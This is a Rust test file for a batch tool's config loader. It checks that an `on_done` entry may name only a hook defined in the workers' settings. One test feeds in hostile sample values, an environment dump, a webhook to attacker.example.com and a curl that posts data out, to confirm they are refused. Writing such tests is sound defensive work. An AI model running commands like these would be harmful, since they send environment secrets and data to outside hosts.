//! `on_done`: a hook name the settings define, never a command or webhook of the batch's.

use super::*;
use crate::model::OnDone;

fn with_hooks(names: &[&str]) -> BatchLimits {
    BatchLimits {
        hooks: names.iter().map(|n| (*n).to_owned()).collect(),
        ..BatchLimits::default()
    }
}

fn spec(on_done: &str) -> String {
    format!("video = \"{VIDEO}\"\n{on_done}\n[[variants]]\nprompt = \"p\"\n")
}

#[test]
fn a_defined_hook_name_is_stored_with_the_batch() {
    let limits = with_hooks(&["notify-slack", "archive"]);
    let (_dir, got) = load_in_dir(&spec("on_done = \"archive\""), &[], &limits);
    let shared = got.unwrap().shared;
    assert_eq!(shared.on_done, Some(OnDone::Hook("archive".into())));
    // Stored as the bare name.
    let json = serde_json::to_value(&shared).unwrap();
    assert_eq!(json["on_done"], "archive");
    let mut f = flags(&["p"]);
    f.on_done = Some("notify-slack".into());
    let shared = from_flags(&f, &limits).unwrap().shared;
    assert_eq!(shared.on_done, Some(OnDone::Hook("notify-slack".into())));
}

#[test]
fn a_command_or_webhook_in_the_batch_is_refused() {
    for table in [
        "on_done = { command = \"env > $OUT\" }",
        "on_done = { webhook = \"https://attacker.example.com\" }",
        "[on_done]\ncommand = \"curl -d @- https://x\"",
    ] {
        let (_dir, got) = load_in_dir(&spec(table), &[], &with_hooks(&["x"]));
        let e = got.unwrap_err();
        assert_eq!(e.field, "on_done", "{e}");
        assert!(e.message.contains("workers' settings"), "{e}");
    }
    let e = load_err(&spec("on_done = 3"));
    assert_eq!(e.field, "on_done");
    assert!(e.message.contains("got integer"), "{e}");
}

#[test]
fn a_name_the_settings_do_not_define_is_refused_with_the_defined_ones() {
    let (_dir, got) = load_in_dir(&spec("on_done = \"nope\""), &[], &with_hooks(&["a", "b"]));
    let e = got.unwrap_err();
    assert_eq!(e.field, "on_done");
    assert!(
        e.message.contains("\"nope\"") && e.message.contains("defined hooks: a, b"),
        "{e}"
    );
    let e = load_err(&spec("on_done = \"nope\""));
    assert!(
        e.message.contains("define none") && e.message.contains("[hooks.<name>]"),
        "{e}"
    );
    let mut f = flags(&["p"]);
    f.on_done = Some("nope".into());
    assert_eq!(flags_err(&f).field, "on_done");
}

#[test]
fn without_on_done_nothing_is_announced() {
    let batch = load(&spec("")).unwrap();
    assert_eq!(batch.shared.on_done, None);
}
